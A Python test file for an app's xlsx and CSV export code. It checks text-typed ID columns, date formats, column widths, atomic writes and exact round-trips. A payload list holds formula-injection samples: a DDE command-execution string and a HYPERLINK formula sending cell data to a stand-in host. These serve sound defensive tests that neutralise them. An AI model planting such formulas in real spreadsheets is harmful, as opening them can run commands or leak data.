"""Writing spreadsheets: read back with openpyxl (types, formats, panes) and with our own reader."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from desktop.core.errors import ShequError, ValidationError
from desktop.exchange.columns import Column, ColumnKind, ColumnSpec, normalize_header
from desktop.exchange.issues import ImportIssue, Severity
from desktop.exchange.reading import TOTAL_WORDS, read_sheet, read_table
from desktop.exchange.writing import (
    defang_csv,
    display_width,
    safe_sheet_name,
    write_csv,
    write_issues,
    write_table,
    write_xlsx,
)

ID = "11010519491231002X"
ID_DIGITS = "110105194912310021"
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?d="&A1,"点我")',
    "@SUM(1+1)",
    "-2+3",
    "+8613800000000",
    "\t制表符开头",
    "\r回车开头",
]

COLUMNS = (
    Column("name", "姓名", kind=ColumnKind.TEXT),
    Column("id_number", "公民身份号码", kind=ColumnKind.TEXT),
    Column("phone", "联系电话", kind=ColumnKind.TEXT),
    Column("count", "人数", kind=ColumnKind.NUMBER),
    Column("born", "出生日期", kind=ColumnKind.DATE),
    Column("note", "备注"),
)
SPEC = ColumnSpec(COLUMNS)


def sample_rows() -> list[list[object]]:
    return [
        ["张三", ID_DIGITS, "13800000000", 3, dt.date(1949, 12, 31), "新华路东侧住宅楼共十二个单元"],
        ["李䶮", ID, "0937-6221234", 2.5, dt.datetime(2020, 1, 2, 3, 4, 5), True],
        ["王𠮷", 110105194912310021, 13900000000, None, None, None],
    ]


def test_xlsx_types_formats_header_and_panes(tmp_path):
    path = tmp_path / "out.xlsx"
    assert write_xlsx(path, COLUMNS, sample_rows(), sheet_name="居民") == 3
    wb = openpyxl.load_workbook(path)
    ws = wb["居民"]
    assert [c.value for c in ws[1]] == [c.header for c in COLUMNS]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:F4"
    # IDs and phones are text with the "@" format, even when handed over as numbers
    for row in (2, 3, 4):
        assert ws.cell(row, 2).data_type == "s" and ws.cell(row, 2).number_format == "@"
        assert ws.cell(row, 3).data_type == "s"
    assert ws["B2"].value == ID_DIGITS and ws["B3"].value == ID and ws["B4"].value == ID_DIGITS
    assert ws["C4"].value == "13900000000"
    # numbers are numbers, dates are dates with yyyy-mm-dd
    assert ws["D2"].value == 3 and ws["D2"].data_type == "n" and ws["D3"].value == 2.5
    assert ws["E2"].value == dt.datetime(1949, 12, 31) and ws["E2"].number_format == "yyyy-mm-dd"
    assert ws["E3"].value == dt.datetime(2020, 1, 2, 3, 4, 5)
    assert ws["F3"].value == "是"  # booleans as 是/否
    assert ws["D4"].value is None
    # the column format makes cells typed later in the ID column text too
    assert ws.column_dimensions["B"].width >= display_width("公民身份号码") + 2


def test_column_widths_fit_chinese_text_and_are_capped(tmp_path):
    path = tmp_path / "w.xlsx"
    cols = (Column("a", "四至", max_width=30), Column("b", "名称"), Column("c", "短"))
    write_xlsx(
        path, cols, [["东至新华路，西至建设街，南至雄关大道，北至迎宾路" * 2, "新华社区第一网格", "x"]]
    )
    dims = openpyxl.load_workbook(path).active.column_dimensions
    assert dims["A"].width == pytest.approx(30, abs=1)  # capped
    assert dims["B"].width >= 16 + 2  # 8 CJK characters are 16 cells wide
    assert dims["C"].width < 10


def test_display_width():
    assert display_width("abc") == 3
    assert display_width("网格员") == 6
    assert display_width("ＡＢ") == 4
    assert display_width("第一行\n长一些的第二行") == 14
    assert display_width(None) == 0 and display_width(12345) == 5


@pytest.mark.parametrize("kind", [ColumnKind.AUTO, ColumnKind.TEXT])
def test_formula_payloads_are_written_as_literal_text_in_xlsx(tmp_path, kind):
    path = tmp_path / "inj.xlsx"
    cols = (Column("v", "值", kind=kind),)
    write_xlsx(path, cols, [[p] for p in PAYLOADS])
    ws = openpyxl.load_workbook(path).active
    cells = [ws.cell(r, 1) for r in range(2, 2 + len(PAYLOADS))]
    assert [c.data_type for c in cells] == ["s"] * len(PAYLOADS)  # never "f"
    # openpyxl leaves the XML escape of CR (_x000D_) in inline strings undecoded; Excel decodes it
    assert [c.value.replace("_x000D_", "\r") for c in cells] == PAYLOADS
    assert all(c.quotePrefix for c in cells)  # Excel keeps it text even after editing the cell
    # and our reader gives the same literal text back
    assert [r.values[0] for r in read_sheet(path).rows[1:]] == PAYLOADS


def test_formula_payloads_in_csv_are_prefixed_and_read_back_literally(tmp_path):
    path = tmp_path / "inj.csv"
    cols = (Column("v", "值"), Column("n", "名"))
    write_csv(path, cols, [[p, "普通"] for p in PAYLOADS])
    text = path.read_bytes().decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and "'@SUM(1+1)" in text and "'-2+3,普通" in text
    assert "'+8613800000000" in text and "'\t制表符开头" in text
    for line in text.split("\r\n")[1:]:
        assert not line.startswith(("=", "+", "-", "@", "\t", '"=', '"@', '"+', '"-', '"\t'))
    table = read_table(path, ColumnSpec((Column("v", "值", required=True), Column("n", "名"))))
    assert [r.text("v") for r in table.records] == PAYLOADS


def test_csv_is_utf8_with_bom_crlf_and_keeps_ids_as_text(tmp_path):
    path = tmp_path / "out.csv"
    assert write_csv(path, COLUMNS, sample_rows()) == 3
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == "姓名,公民身份号码,联系电话,人数,出生日期,备注"
    assert lines[1] == f"张三,{ID_DIGITS},13800000000,3,1949-12-31,新华路东侧住宅楼共十二个单元"
    assert lines[2] == f"李䶮,{ID},0937-6221234,2.5,2020-01-02 03:04:05,是"
    assert lines[3] == f"王𠮷,{ID_DIGITS},13900000000,,,"
    records = read_table(path, SPEC).records
    assert [r.text("id_number") for r in records] == [ID_DIGITS, ID, ID_DIGITS]
    assert records[1].value("name") == "李䶮" and records[2].value("name") == "王𠮷"


def test_xlsx_round_trip_through_our_reader(tmp_path):
    path = tmp_path / "rt.xlsx"
    write_xlsx(path, COLUMNS, sample_rows())
    records = read_table(path, SPEC).records
    assert [r.text("id_number") for r in records] == [ID_DIGITS, ID, ID_DIGITS]
    assert not any(r.cell("id_number").is_number for r in records)
    assert records[0].value("count") == 3 and records[0].value("born") == dt.date(1949, 12, 31)
    assert records[1].value("name") == "李䶮" and records[2].value("name") == "王𠮷"


def test_rows_may_be_mappings(tmp_path):
    path = tmp_path / "m.csv"
    write_csv(path, COLUMNS, [{"name": "张三", "count": 1}])
    assert path.read_bytes().decode("utf-8-sig").split("\r\n")[1] == "张三,,,1,,"


def test_big_integers_and_odd_numbers(tmp_path):
    path = tmp_path / "n.xlsx"
    write_xlsx(path, (Column("v", "值"),), [[2**60], [float("nan")], [float("inf")], [dt.date(1800, 1, 1)]])
    ws = openpyxl.load_workbook(path).active
    assert ws["A2"].value == str(2**60)  # would lose digits as a number
    assert ws["A3"].value is None and ws["A4"].value is None
    assert ws["A5"].value == "1800-01-01"  # before Excel's calendar: text


def test_many_rows_in_constant_memory_mode(tmp_path):
    path = tmp_path / "big.xlsx"
    seen: list[int] = []
    rows = ([f"居民{i}", f"{110105194900000000 + i}", None, i, None, None] for i in range(5000))
    assert write_xlsx(path, COLUMNS, rows, progress=seen.append) == 5000
    assert seen[-1] == 5000 and 1000 in seen
    table = read_table(path, SPEC)
    assert len(table.records) == 5000
    assert table.records[-1].text("id_number") == "110105194900004999"
    assert table.records[-1].row == 5001


def test_write_table_by_suffix(tmp_path):
    assert write_table(tmp_path / "a.xlsx", COLUMNS, sample_rows()) == 3
    assert write_table(tmp_path / "a.CSV", COLUMNS, sample_rows()) == 3
    with pytest.raises(ValidationError, match=re.escape("不支持导出为“.pdf”文件")):
        write_table(tmp_path / "a.pdf", COLUMNS, sample_rows())
    assert not (tmp_path / "a.pdf").exists()


def test_failed_write_keeps_the_old_file_and_leaves_no_temp_file(tmp_path):
    path = tmp_path / "keep.xlsx"
    write_xlsx(path, COLUMNS, sample_rows())
    before = path.read_bytes()

    def broken_rows():
        yield sample_rows()[0]
        raise RuntimeError("数据库断开")

    for writer in (write_xlsx, write_csv):
        target = path if writer is write_xlsx else tmp_path / "keep.csv"
        if writer is write_csv:
            write_csv(target, COLUMNS, sample_rows())
            before = target.read_bytes()
        with pytest.raises(RuntimeError):
            writer(target, COLUMNS, broken_rows())
        assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.csv", "keep.xlsx"]


def test_writing_into_a_missing_folder_is_a_chinese_error(tmp_path):
    with pytest.raises(ShequError, match="不存在"):
        write_xlsx(tmp_path / "no" / "such.xlsx", COLUMNS, [])


def test_writing_over_a_locked_file_is_a_chinese_error(tmp_path, monkeypatch):
    import os

    def locked(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ShequError, match="正在 Excel 或 WPS 中打开"):
        write_csv(tmp_path / "x.csv", COLUMNS, [])
    assert list(tmp_path.iterdir()) == []


def test_error_workbook(tmp_path):
    path = tmp_path / "errors.xlsx"
    issues = [
        ImportIssue(5, "户数", "abc", "值“abc”不是整数", code="not_integer"),
        ImportIssue(7, "公民身份号码", ID_DIGITS, "校验位错误"),
        ImportIssue(9, "人数", 3, "人数少于户数", Severity.WARNING),
        ImportIssue(None, None, None, "文件中有隐藏的工作表"),
        ImportIssue(11, "姓名", "=1+1", "不能以等号开头"),
    ]
    assert write_issues(path, issues) == 5
    ws = openpyxl.load_workbook(path).active
    assert ws.title == "导入问题"
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0] == ["行号", "字段", "值", "原因"]
    assert rows[1] == [5, "户数", "abc", "值“abc”不是整数"]
    assert rows[2] == [7, "公民身份号码", ID_DIGITS, "校验位错误"] and ws["C3"].data_type == "s"
    assert rows[3] == [9, "人数", "3", "提示：人数少于户数"]
    assert rows[4] == [None, None, None, "文件中有隐藏的工作表"]
    assert rows[5][2] == "=1+1" and ws["C6"].data_type == "s"
    write_issues(tmp_path / "errors.csv", issues)
    assert (
        (tmp_path / "errors.csv")
        .read_bytes()
        .decode("utf-8-sig")
        .startswith("行号,字段,值,原因\r\n5,户数,abc,")
    )


def test_issue_text():
    assert ImportIssue(5, "户数", "abc", "值“abc”不是整数").describe() == "第 5 行 · 户数：值“abc”不是整数"
    assert ImportIssue(6, None, None, "整行为空").describe() == "第 6 行：整行为空"
    assert (
        ImportIssue(7, "人数", 1, "少于户数", Severity.WARNING).describe()
        == "第 7 行 · 人数：（提示）少于户数"
    )


def test_helpers():
    assert defang_csv("=1") == "'=1" and defang_csv("a=1") == "a=1" and defang_csv("") == ""
    assert defang_csv("'=1") == "''=1" and defang_csv("'abc") == "'abc"
    assert safe_sheet_name("网格[2026]/新华:一") == "网格_2026__新华_一"
    assert safe_sheet_name("") == "Sheet1" and len(safe_sheet_name("长" * 40)) == 31


def test_written_files_are_not_left_behind_as_temp_files(tmp_path):
    write_xlsx(tmp_path / "a.xlsx", COLUMNS, sample_rows())
    write_csv(tmp_path / "a.csv", COLUMNS, sample_rows())
    assert sorted(p.name for p in Path(tmp_path).iterdir()) == ["a.csv", "a.xlsx"]


# ---------------------------------------------------------------- property: any text comes back as written

_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
).filter(lambda t: not normalize_header(t).startswith(TOTAL_WORDS))


@settings(
    max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(values=st.lists(_TEXT, min_size=1, max_size=5))
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_any_text_round_trips_exactly(tmp_path, suffix, values):
    path = tmp_path / f"p{suffix}"
    cols = (Column("key", "键", kind=ColumnKind.TEXT), Column("v", "值", kind=ColumnKind.TEXT))
    write_table(path, cols, [[f"k{i}", v] for i, v in enumerate(values)])
    spec = ColumnSpec((Column("key", "键", required=True), Column("v", "值")))
    records = read_table(path, spec).records
    assert [r.text("v") for r in records] == [v for v in values]


def test_dates_by_column_kind(tmp_path):
    """The writer's fast path for dates keeps _write_cell's rules: a date cell in a DATE column, text in a TEXT
    column, text before Excel's calendar (1900); a datetime keeps its time."""
    path = tmp_path / "d.xlsx"
    columns = (Column("d", "日期", kind=ColumnKind.DATE), Column("t", "文本", kind=ColumnKind.TEXT))
    rows = [
        (dt.date(2026, 11, 23), dt.date(2026, 11, 23)),
        (dt.date(1899, 12, 31), None),
        (dt.datetime(2026, 1, 2, 3, 4, 5), "2026-01-02"),
    ]
    write_xlsx(path, columns, rows)
    ws = openpyxl.load_workbook(path).active
    assert ws["A2"].value == dt.datetime(2026, 11, 23) and ws["A2"].number_format == "yyyy-mm-dd"
    assert ws["B2"].value == "2026-11-23" and ws["B2"].data_type == "s"
    assert ws["A3"].value == "1899-12-31" and ws["B3"].value is None
    assert (
        ws["A4"].value == dt.datetime(2026, 1, 2, 3, 4, 5) and ws["A4"].number_format == "yyyy-mm-dd hh:mm:ss"
    )
